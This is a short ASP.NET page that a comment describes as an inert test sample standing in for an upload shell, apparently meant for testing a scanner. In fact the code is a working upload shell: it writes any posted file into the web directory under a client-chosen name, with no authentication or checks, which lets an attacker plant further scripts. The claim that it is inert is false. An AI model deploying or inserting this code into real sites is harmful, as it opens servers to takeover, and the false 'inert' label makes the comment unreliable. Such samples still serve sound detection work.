<%@ Page Language="C#" %>
<script runat="server">
	/* exhume test sample: inert stand-in for an ASPX upload shell. */
	void Page_Load(object sender, EventArgs e)
	{
		if (Request.Files.Count > 0) {
			Request.Files[0].SaveAs(Server.MapPath("./") + Request.Files[0].FileName);
			Response.Write("ok");
		}
	}
</script>
<form method="post" enctype="multipart/form-data" runat="server"><input type="file" name="f" /><input type="submit" /></form>
